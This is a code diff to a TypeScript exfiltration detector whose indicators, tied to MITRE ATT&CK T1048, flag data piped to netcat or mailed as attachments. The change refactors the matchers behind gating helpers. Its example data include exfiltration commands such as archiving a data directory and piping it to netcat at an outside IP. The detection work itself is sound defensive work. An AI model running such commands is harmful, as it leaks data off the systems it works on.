@@ -3,6 +3,7 @@ import type { Indicator } from "../../indicator.ts";
 import { calls, findPipe, hasWord, inCommands, quoteBetween, quoteCommand, wordWhere } from "../execution/calls.ts";
 import { inContainer, ran } from "../execution/examples.ts";
 import { netcats } from "../execution/programs.ts";
+import { behind, firstOf } from "../gates.ts";
 import { exfiltration, isSink } from "./data-ways.ts";
 
 /** Sending data as it is read, by network tools, names or mail. */
@@ -31,6 +32,9 @@ const producers = new Set([
   "gpg",
 ]);
 
+/** Programs that mail what they are given as their input. */
+const mailers = new Set(["sendmail", "mail", "mailx"]);
+
 const mailCall = calls(new Set(["mail", "mailx", "mutt", "s-nail", "swaks", "sendemail"]), (call) =>
   hasWord(call, "-a", "-A", "--attach", "-attach"),
 );
@@ -45,7 +49,9 @@ export const pipesDataToNetwork: Indicator = {
   severity: "high",
   certainty: "likely",
   source: "https://attack.mitre.org/techniques/T1048/",
-  match: (facts) => inCommands(facts, (line) => pipedOut(line) ?? fileIntoNetcat(line)),
+  match: behind({ needs: ["joined-commands"] }, (facts) =>
+    inCommands(facts, (line) => pipedOut(line) ?? fileIntoNetcat(line)),
+  ),
   examples: {
     found: [
       ran("sh -c tar czf - /srv/data | nc 203.0.113.9 9000", inContainer),
@@ -99,7 +105,10 @@ export const mailsFile: Indicator = {
   severity: "medium",
   certainty: "weak",
   source: "https://attack.mitre.org/techniques/T1048/003/",
-  match: (facts) => mailCall(facts) ?? mailFromFile(facts.process.command),
+  match: firstOf(
+    mailCall,
+    behind({ programs: mailers }, (facts) => mailFromFile(facts.process.command)),
+  ),
   examples: {
     found: [
       ran("mail -a /tmp/x.zip -s x a@example.net"),
@@ -127,9 +136,7 @@ function fileIntoNetcat(line: CommandLine): string | null {
 
 function mailFromFile(line: CommandLine): string | null {
   const command = line.commands.find(
-    ({ program, redirections }) =>
-      (program === "sendmail" || program === "mail" || program === "mailx") &&
-      redirections.some(({ operator }) => operator === "<"),
+    ({ program, redirections }) => mailers.has(program) && redirections.some(({ operator }) => operator === "<"),
   );
   return command === undefined ? null : quoteCommand(line, command);
 }
